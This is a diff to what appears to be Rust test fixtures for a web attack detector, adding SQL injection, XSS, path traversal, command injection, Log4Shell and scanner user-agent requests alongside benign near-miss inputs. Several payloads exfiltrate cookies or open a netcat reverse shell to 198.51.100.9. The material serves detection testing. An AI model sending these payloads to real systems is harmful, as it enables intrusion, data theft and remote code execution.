@@ -62,13 +62,21 @@ pub(super) const LOG4SHELL: Attack = Attack {
 /// User agents of scanners.
 pub(super) const SCANNER: Attack = Attack {
     name: "web-scanner",
-    about: "203.0.113.85 sends 10.0.0.80 three requests as sqlmap and one each as Nikto, Nmap, Nuclei and gobuster.",
+    about: "203.0.113.85 sends 10.0.0.80 three requests as sqlmap and one each as Nikto, Nmap, Nuclei, gobuster and fourteen others.",
     near_miss_about: "A browser reads the blog's pages about sqlmap and Nikto.",
     attack: |start| requests(start, "203.0.113.85:40085", &scanners()),
     near_miss: |start| requests(start, "203.0.113.85:40085", &pages_about_scanners()),
 };
 
 const FORM: &str = "/form";
+
+fn post(body: &str) -> Request {
+    Request::post(FORM, body)
+}
+
+fn cookie(value: &str) -> Request {
+    Request::get("/").header("Cookie", value)
+}
 
 fn sql_injections() -> Vec<Request> {
     let get = |value: &str| Request::get(&format!("/item?id={value}"));
@@ -77,18 +85,36 @@ fn sql_injections() -> Vec<Request> {
         get("1%20uNiOn%20%41lL%20sElEcT%201,2,3--%20-"),
         get("1%2520union%2520select%2520null"),
         get("-1/**/UNION/**/SELECT/**/1,2"),
-        Request::post(FORM, "user=admin'+OR+'1'%3D'1&password=x"),
-        Request::post(FORM, "id=1+union+all+select+1,version()"),
-        Request::get("/").header("Cookie", "session=x' OR 1=1-- -"),
+        post("user=admin'+OR+'1'%3D'1&password=x"),
+        post("id=1+union+all+select+1,version()"),
+        cookie("session=x' OR 1=1-- -"),
         get("1%20or%201=1"),
-        Request::post(FORM, "q=1')%3BDROP+TABLE+users"),
+        post("q=1')%3BDROP+TABLE+users"),
         get("1;WAITFOR%20DELAY%20'0:0:5'"),
         get("1%20AND%20SLEEP(5)"),
-        Request::get("/").header("Cookie", "id=1%20AND%20BENCHMARK(5000000,MD5(1))"),
+        cookie("id=1%20AND%20BENCHMARK(5000000,MD5(1))"),
         get("(select+table_name+from+information_schema.tables+limit+1)"),
-        Request::post(FORM, "id=1;exec+master..xp_cmdshell"),
+        post("id=1;exec+master..xp_cmdshell"),
         get("admin'--"),
         get("x'+AND+'a'%3D'a"),
+        cookie("id=1%20UNION%20SELECT%201"),
+        post("id=(select+name+from+users)"),
+        cookie("id=(select%20name%20from%20users)"),
+        post("id=1+or+2%3D2"),
+        cookie("id=1%20or%203=3"),
+        cookie("user=admin'--"),
+        post("id=1+or/**/x"),
+        cookie("id=1%20and/**/x"),
+        post("id=1+and+sleep(5)"),
+        cookie("id=1%20and%20sleep(5)"),
+        post("id=1%3Bwaitfor+delay+'0:0:5'"),
+        cookie("id=1%3Bwaitfor%20delay%20'0:0:5'"),
+        get("1+and+benchmark(5000000,1)"),
+        post("id=1+and+benchmark(5000000,1)"),
+        post("table=information_schema.tables"),
+        cookie("table=information_schema.columns"),
+        get("1;exec+xp_cmdshell"),
+        cookie("id=exec%20xp_cmdshell"),
     ]
 }
 
@@ -98,11 +124,8 @@ fn talk_of_sql() -> Vec<Request> {
         Request::get("/search?q=how+to+select+a+gift+from+our+shop&price=1+or+2%3Dcheap"),
         Request::get("/search?q=O'Brien+or+O'Neill&page=2"),
         Request::get("/docs/information_schema.html"),
-        Request::post(
-            FORM,
-            "comment=I+sleep(well),+drop+by+the+%22union%22+library+--+they+select+books+from+all+over;+cheers",
-        ),
-        Request::get("/").header("Cookie", "theme=union; last=select%20from%20list; order=desc"),
+        post("comment=I+sleep(well),+drop+by+the+%22union%22+library+--+they+select+books+from+all+over;+cheers"),
+        cookie("theme=union; last=select%20from%20list; order=desc"),
         Request::get("/files/a/*/b?glob=*.sql"),
     ]
 }
@@ -116,12 +139,12 @@ fn scripts() -> Vec<Request> {
         get("%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
         get("%3Csvg/onload=alert(document.cookie)%3E"),
         Request::get("/go?to=javascript:alert(1)"),
-        Request::post(
-            FORM,
-            "comment=%3Cscript%3Enew+Image().src='//198.51.100.9/'%2Bdocument.cookie%3C/script%3E",
-        ),
-        Request::post(FORM, "comment=%3Cbody+onload%3Dalert(1)%3E"),
-        Request::get("/").header("Cookie", "name=%3Cscript%3Ealert(1)%3C/script%3E"),
+        post("comment=%3Cscript%3Enew+Image().src='//198.51.100.9/'%2Bdocument.cookie%3C/script%3E"),
+        post("comment=%3Cbody+onload%3Dalert(1)%3E"),
+        cookie("name=%3Cscript%3Ealert(1)%3C/script%3E"),
+        cookie("name=%3Cimg%20src=x%20onerror=alert(1)%3E"),
+        post("to=javascript%3Aalert(1)"),
+        cookie("to=javascript:alert(1)"),
     ]
 }
 
@@ -129,11 +152,8 @@ fn talk_of_scripts() -> Vec<Request> {
     vec![
         Request::get("/docs/script-element?title=When+onload+runs,+and+why+a+%3C+b"),
         Request::get("/blog/javascript:-the-good-parts?q=javascript"),
-        Request::post(
-            FORM,
-            "comment=Use+%26lt;script%26gt;+and+onerror%3D+with+care,+document.cookie+too",
-        ),
-        Request::get("/").header("Cookie", "lang=javascript; onboarding=done"),
+        post("comment=Use+%26lt;script%26gt;+and+onerror%3D+with+care,+document.cookie+too"),
+        cookie("lang=javascript; onboarding=done"),
     ]
 }
 
@@ -145,8 +165,8 @@ fn climbs() -> Vec<Request> {
         Request::get("/download?file=..%5c..%5c..%5cwindows%5cwin.ini"),
         Request::get("/download?file=..\\..\\boot.ini"),
         Request::get("/page?include=file:///etc/passwd"),
-        Request::post(FORM, "file=../../../../var/log/auth.log"),
-        Request::get("/").header("Cookie", "template=..%2F..%2F..%2Fetc%2Fhosts"),
+        post("file=../../../../var/log/auth.log"),
+        cookie("template=..%2F..%2F..%2Fetc%2Fhosts"),
     ]
 }
 
@@ -155,7 +175,7 @@ fn single_steps() -> Vec<Request> {
         Request::get("/blog/../style.css"),
         Request::get("/blog/the-file-etc-passwd?see=/docs/etc/passwd-format"),
         Request::get("/range?from=1..2&to=3..4"),
-        Request::post(FORM, "comment=and+so+on+...+see+../notes.txt"),
+        post("comment=and+so+on+...+see+../notes.txt"),
     ]
 }
 
@@ -168,10 +188,14 @@ fn commands() -> Vec<Request> {
         get("$(whoami)"),
         get("%60wget%20http://198.51.100.9/x%60"),
         get("a%26%26curl%20http://198.51.100.9/x"),
-        Request::post(FORM, "host=127.0.0.1%3B/usr/bin/id"),
-        Request::post(FORM, "host=127.0.0.1+%7C+nc+-e+/bin/sh+198.51.100.9+4444"),
-        Request::post(FORM, "host=%24(cat+/etc/issue)"),
+        post("host=127.0.0.1%3B/usr/bin/id"),
+        post("host=127.0.0.1+%7C+nc+-e+/bin/sh+198.51.100.9+4444"),
+        post("host=%24(cat+/etc/issue)"),
         Request::get("/cgi-bin/status").user_agent("() { :;}; /bin/bash -c id"),
+        post("host=%60id%60"),
+        post("host=a%26%26id"),
+        get("/bin/sh%20-c%20x"),
+        post("host=/bin/bash+-i"),
     ]
 }
 
@@ -180,7 +204,7 @@ fn lists() -> Vec<Request> {
         Request::get("/search?tags=cat;dog;type|bird|list&id=5&ls=1"),
         Request::get("/blog/the-cat-command;v=2?q=cat+/etc/hosts"),
         Request::get("/shop?price=$(10)&cmd=list"),
-        Request::post(FORM, "comment=First+sleep;+then+type+your+name+|+address&id=7"),
+        post("comment=First+sleep;+then+type+your+name+|+address&id=7"),
     ]
 }
 
@@ -188,18 +212,20 @@ fn lookups() -> Vec<Request> {
     let plain = "${jndi:ldap://198.51.100.9:1389/a}";
     vec![
         Request::get("/?x=$%7Bjndi:ldap://198.51.100.9/a%7D"),
-        Request::post(FORM, "user=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.9%2Fa%7D"),
-        Request::get("/").header("Cookie", "id=${JNDI:dns://198.51.100.9/a}"),
+        post("user=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.9%2Fa%7D"),
+        cookie("id=${JNDI:dns://198.51.100.9/a}"),
         Request::get("/").user_agent(plain),
         Request::get("/").header("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}"),
         Request::get("/?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://198.51.100.9/a%7D"),
+        post("x=%24%7B%24%7B::-j%7D%24%7B::-n%7D%24%7B::-d%7D%24%7B::-i%7D"),
+        cookie("x=${${::-j}${::-n}${::-d}${::-i}}"),
     ]
 }
 
 fn templates() -> Vec<Request> {
     vec![
         Request::get("/blog/what-log4j-jndi:ldap-lookups-do"),
-        Request::post(FORM, "template=Dear+%24%7Buser.name%7D,+today+is+%24%7Bdate%7D"),
+        post("template=Dear+%24%7Buser.name%7D,+today+is+%24%7Bdate%7D"),
         Request::get("/").header("X-Template", "${first}-${last}"),
     ]
 }
@@ -215,6 +241,21 @@ fn scanners() -> Vec<Request> {
             .user_agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
         Request::get("/.env").user_agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
         Request::get("/backup").user_agent("gobuster/3.6"),
+        Request::get("/").user_agent("Nikto/2.1.6"),
+        Request::get("/").user_agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+        Request::get("/").user_agent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+        Request::get("/")
+            .user_agent("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
+        Request::get("/").user_agent("feroxbuster/2.10.1"),
+        Request::get("/").user_agent("Fuzz Faster U Fool v2.1.0"),
+        Request::get("/").user_agent("Wfuzz/3.1.0"),
+        Request::get("/").user_agent("zgrab/0.x"),
+        Request::get("/").user_agent("ZmEu"),
+        Request::get("/").user_agent("commix/3.9 (https://commixproject.com)"),
+        Request::get("/").user_agent("w3af.org"),
+        Request::get("/").user_agent("Arachni/v1.5.1"),
+        Request::get("/").user_agent("Mozilla/5.0 (Hydra)"),
+        Request::get("/").user_agent("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4)"),
     ]
 }
 
